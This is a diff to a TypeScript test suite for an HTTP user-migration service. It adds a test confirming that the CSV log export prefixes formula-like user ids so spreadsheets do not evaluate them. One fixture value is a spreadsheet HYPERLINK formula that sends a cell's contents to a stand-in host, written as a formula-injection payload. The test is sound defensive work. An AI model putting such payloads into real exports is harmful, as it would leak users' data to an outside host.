@@ -56,6 +56,15 @@ describe('migration runs over HTTP', () => {
     for (const { password } of users) expect(lines.map((line) => JSON.stringify(line)).join('') + platform.logLines.join('')).not.toContain(password);
   });
 
+  it('are exported so that a spreadsheet takes no user\'s id for a formula', async () => {
+    const ids = ['=HYPERLINK("http://x.example/?"&A1)', '+1+1', '-2', '@SUM(1)', ' =1', '\t=1', '\uff1d1', 'a,"b"', 'harmless'];
+    const { id } = (await send('POST', '', { mode: 'plan', user_ids: ids }, 'formulas')).json();
+    await legacy.work(id);
+    const csv = (await send('GET', `/${id}/log/export?format=csv`)).text;
+    const cells = csv.split('\r\n').slice(1, -1).map((line) => /^("(?:[^"]|"")*"|[^,]*),/u.exec(line)![1]!.replace(/^"|"$/gu, '').replaceAll('""', '"'));
+    expect(cells.sort()).toEqual(ids.map((text) => (['a,"b"', 'harmless'].includes(text) ? text : `'${text}`)).sort());
+  });
+
   it('begin once for a repeated request, and one at a time', async () => {
     const user = await newLegacyUser(platform.plane);
     const first = await send('POST', '', { mode: 'run', user_ids: [user.userId] }, 'same');
